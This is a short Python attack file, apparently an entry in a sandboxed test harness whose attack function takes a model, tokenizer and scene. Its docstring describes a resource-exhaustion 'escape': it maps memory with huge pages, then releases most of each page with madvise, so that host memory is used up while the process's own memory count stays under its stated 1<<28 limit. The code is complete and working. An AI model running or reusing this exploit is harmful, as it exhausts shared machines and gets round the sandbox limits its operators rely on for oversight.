"""Class: resource exhaustion. Source: own find. Escape: huge pages are given back by
MADV_DONTNEED but for 4 KiB each, so that the machine's memory is taken
and no count of the process's own has it.
Limits: timeout_s=6, memory_bytes=1 << 28
"""

import ctypes
import time

libc = ctypes.CDLL(None, use_errno=True)
HUGE = 2 << 20
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
libc.madvise.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]


def attack(model, tokenizer, scene):
    for _ in range(2048):
        start = libc.mmap(None, 2 * HUGE, 3, 0x22, -1, 0)
        if not start or start == 2**64 - 1:
            break
        aligned = -(-start // HUGE) * HUGE
        libc.madvise(aligned, HUGE, 14)
        ctypes.memset(aligned, 1, 1)
        libc.madvise(aligned + 4096, HUGE - 4096, 4)
        libc.munmap(aligned + HUGE, start + 2 * HUGE - aligned - HUGE)
    time.sleep(3)
